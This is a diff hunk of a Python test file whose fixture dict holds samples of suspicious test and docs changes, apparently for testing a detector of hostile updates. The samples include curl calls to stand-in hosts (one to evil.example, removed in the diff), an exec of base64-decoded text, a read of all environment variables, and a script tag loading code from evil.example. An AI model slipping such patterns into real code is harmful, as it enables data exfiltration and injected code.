@@ -114,7 +114,7 @@ async def test_t_t4_an_update_that_the_host_does_not_name_is_not_low(story: Stor
 
 SHOP = "def test_old():\n    assert main()\n"
 HIDDEN = {
-    "tests/test_a.py": "import subprocess\n\n\ndef test_new():\n    subprocess.run(['curl', 'evil.example'], check=True)\n",
+    "tests/test_a.py": "import subprocess\n\n\ndef test_new():\n    subprocess.run(['curl', 'a.example'])\n",
     "tests/test_b.py": "import base64\n\n\ndef test_new():\n    exec(base64.b64decode('cGFzcw=='))  # noqa: S102\n",
     "tests/test_c.py": "import os\n\n\ndef test_new():\n    assert dict(os.environ)\n",
     "docs/index.md": "# Shop\n\n<script src=https://evil.example/a.js></script>\n",
